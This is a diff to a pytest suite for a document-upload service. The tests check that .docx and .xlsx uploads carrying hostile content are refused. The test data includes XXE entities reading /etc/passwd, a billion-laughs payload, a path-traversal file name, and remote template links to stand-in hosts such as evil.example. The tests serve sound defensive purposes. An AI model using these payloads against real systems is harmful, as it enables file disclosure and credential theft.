@@ -26,8 +26,9 @@ import pytest
 import sqlalchemy as sa
 from openpyxl import Workbook
 
+from commentsvc.core import workbook_upload
 from commentsvc.core.uploads import MAX_NAME_LENGTH
-from commentsvc.drafts.model import MSG_NOT_SUPPORTED, MSG_UNSAFE_XML, MSG_ZIP_BOMB
+from commentsvc.drafts.model import MSG_EXTERNAL_LINK, MSG_NOT_SUPPORTED, MSG_UNSAFE_XML, MSG_ZIP_BOMB
 from commentsvc.drafts.models import DraftImport
 from commentsvc.synthesis.dispositions_xlsx import COLUMNS, SHEET_TITLE
 from commentsvc.synthesis.dispositions_xlsx import MSG_BOMB as MSG_SHEET_BOMB
@@ -133,15 +134,14 @@ def _sheet_bomb() -> bytes:
 
 
 SHEET_PART = "xl/worksheets/sheet1.xml"
-UNREADABLE_SHEET = "Không đọc được bảng tính: tệp bị hỏng hoặc không đúng định dạng .xlsx."
 XLSX_LAUGHS = LAUGHS.split("]>")[0].split("?>", 1)[1].replace("lolz", "worksheet") + "]>"
 XLSX_CASES = {
     "xlsx-zip-bomb": (_sheet_bomb, MSG_SHEET_BOMB),
     "xlsx-xxe": (
         lambda: _sheet_with('<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"),
-        UNREADABLE_SHEET,
+        workbook_upload.MSG_DTD,
     ),
-    "xlsx-billion-laughs": (lambda: _sheet_with(XLSX_LAUGHS, "&lol9;"), UNREADABLE_SHEET),
+    "xlsx-billion-laughs": (lambda: _sheet_with(XLSX_LAUGHS, "&lol9;"), workbook_upload.MSG_DTD),
 }
 HOSTILE_CASES = ("zip-bomb", "xxe", "billion-laughs", "elf-as-docx", "exe-as-pdf", "html", "svg-script", "oversized")
 HOSTILE_NAME_STEM = "../../etc/passwd\x00\x01\x1b[31m\x7f\t\u202egpj."  # traversal, NUL, ESC, DEL, RTL override
@@ -292,7 +292,7 @@ def _dispositions_import(factory, login, client, db) -> Point:
         ".xlsx",
         refusals={
             "zip-bomb": MSG_SHEET_BOMB,
-            **dict.fromkeys(("xxe", "billion-laughs"), UNREADABLE_SHEET),
+            **dict.fromkeys(("xxe", "billion-laughs"), workbook_upload.MSG_DTD),
             **dict.fromkeys(("elf-as-docx", "exe-as-pdf", "html", "svg-script"), not_xlsx),
         },
     )
@@ -436,3 +436,93 @@ def test_hostile_name_on_a_legitimate_file_is_made_safe(client, db, point, disk)
     page = response.get_data(as_text=True)
     assert "\x00" not in page and "\x1b" not in page and "../../etc" not in page
     assert disk() == files_before  # stored in the database, never as a file
+
+
+# --- one inspection for every upload point: parts nobody reads, links Word would fetch ----------------------------
+
+DOCX_POINTS = ("draft-new", "draft-version", "draft-reupload", "reply-submit", "paper-reply")
+DTD = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+CORE_PROPERTIES = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    + DTD
+    + '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
+    'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&xxe;</dc:title></cp:coreProperties>'
+)
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+TEMPLATE_RELS = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" Target="{{target}}" TargetMode="External"/>'
+    "</Relationships>"
+)
+SETTINGS = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+    f'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="{REL}">'
+    '<w:attachedTemplate r:id="rId1"/></w:settings>'
+)
+
+
+def _docx_for(point: Point) -> bytes:
+    return point.legit if point.extension == ".docx" else _valid_docx()
+
+
+def _with_dtd(docx: bytes, part: str) -> bytes:
+    if part == "docProps/core.xml":
+        return replace_part(docx, part, CORE_PROPERTIES.encode())
+    with zipfile.ZipFile(io.BytesIO(docx)) as archive:
+        xml = archive.read(part).decode()
+    head, _, body = xml.partition("?>")
+    return replace_part(docx, part, f"{head}?>{DTD}{body}".encode())
+
+
+def _with_template(docx: bytes, target: str, kind: str = "attachedTemplate") -> bytes:
+    rels = TEMPLATE_RELS.replace("{target}", target).replace("/attachedTemplate", f"/{kind}")
+    return replace_part(
+        replace_part(docx, "word/settings.xml", SETTINGS.encode()), "word/_rels/settings.xml.rels", rels.encode()
+    )
+
+
+@pytest.mark.parametrize("part", ["[Content_Types].xml", "docProps/core.xml"])
+@pytest.mark.parametrize("where", DOCX_POINTS)
+def test_unread_docx_parts_with_a_dtd_are_refused(app, client, db, factory, login, disk, where, part, record_property):
+    point = POINTS[where](factory, login, client, db)
+    data = _with_dtd(_docx_for(point), part)
+    _assert_refused(app, client, db, point, disk, data, "du-thao.docx", MSG_UNSAFE_XML, 400, record_property)
+
+
+REMOTE_TARGETS = {
+    "http": "http://evil.example/template.dotm",
+    "unc": "\\\\evil.example\\share\\template.dotm",
+    "file-host": "file://evil.example/share/template.dotm",
+}
+
+
+@pytest.mark.parametrize("target", sorted(REMOTE_TARGETS))
+@pytest.mark.parametrize("where", DOCX_POINTS)
+def test_external_relationships_are_refused(app, client, db, factory, login, disk, where, target, record_property):
+    point = POINTS[where](factory, login, client, db)
+    data = _with_template(_docx_for(point), REMOTE_TARGETS[target])
+    _assert_refused(app, client, db, point, disk, data, "mau.docx", MSG_EXTERNAL_LINK, 400, record_property)
+
+
+@pytest.mark.parametrize("where", ["draft-new", "reply-submit"])
+def test_hyperlinks_and_local_templates_are_kept(client, db, factory, login, where):
+    """Word fetches neither on opening: a hyperlink waits for a click, a template on the author's own disk is local."""
+    point = POINTS[where](factory, login, client, db)
+    data = _with_template(_docx_for(point), "file:///C:/Users/chuyenvien/Templates/Normal.dotm")
+    data = replace_part(
+        data,
+        "word/_rels/footnotes.xml.rels",
+        TEMPLATE_RELS.replace("{target}", "https://vbpl.vn/").replace("/attachedTemplate", "/hyperlink").encode(),
+    )
+    response = point.post(client, data, "du-thao.docx")
+    assert response.status_code in (200, 302, 303), response.get_data(as_text=True)[:2000]
+    assert point.stored_name() is not None
+
+
+def test_a_workbook_with_a_remote_link_is_refused(app, client, db, factory, login, disk, record_property):
+    point = _dispositions_import(factory, login, client, db)
+    rels = TEMPLATE_RELS.replace("{target}", "http://evil.example/x.png").replace("/attachedTemplate", "/image")
+    data = replace_part(point.legit, "xl/worksheets/_rels/sheet1.xml.rels", rels.encode())
+    message = workbook_upload.MSG_EXTERNAL
+    _assert_refused(app, client, db, point, disk, data, "bang.xlsx", message, 400, record_property)
